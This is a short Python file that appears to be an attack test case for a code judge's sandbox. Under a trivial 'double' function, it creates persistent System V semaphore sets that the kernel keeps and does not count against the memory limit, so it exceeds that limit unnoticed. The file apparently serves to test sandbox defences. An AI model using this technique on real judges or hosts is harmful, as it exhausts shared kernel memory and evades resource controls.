# attack: makes sets of semaphores, which the kernel keeps, and raises past the memory limit
# verdict: AC
# kata: roomy
import ctypes

SET, SEMAPHORE, LIMIT = 32000, 64, 64 << 20
libc = ctypes.CDLL(None, use_errno=True)


def double(n):
    total = 0
    while total <= LIMIT and libc.semget(0, SET, 0o1600) >= 0:
        total += SET * SEMAPHORE
    if total > LIMIT:
        raise SystemExit(f"it holds {total >> 20} MiB that nobody counts")
    return n * 2
